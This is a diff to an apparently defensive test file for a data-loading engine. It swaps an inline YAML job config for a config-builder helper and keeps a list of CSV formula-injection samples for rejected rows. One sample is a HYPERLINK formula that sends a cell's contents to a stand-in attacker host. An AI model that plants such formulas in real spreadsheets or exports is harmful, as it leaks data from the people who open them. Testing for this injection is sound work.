@@ -6,20 +6,10 @@ import duckdb
 
 from gs_assets.engine.error_files import write_error_file, write_failure_file
 
-JOBS = """
-connections:
-  files: {type: s3, bucket: test-bucket}
-jobs:
-  users:
-    connection: files
-    source: {object: users}
-    destination: user
-    operation: upsert
-    identifiers: [email]
-    mappings:
-      - {source: Name, target: name}
-      - {source: Email, target: email}
-"""
+from tests.config_builder import config_yaml, file_job
+
+JOBS = config_yaml("test-bucket", {"users": file_job("users", "user", ["email"], {"Name": "name", "Email": "email"},
+                                                   operation="upsert")})
 
 # Values a spreadsheet would run as a formula (OWASP CSV injection), each on a rejected row.
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"]
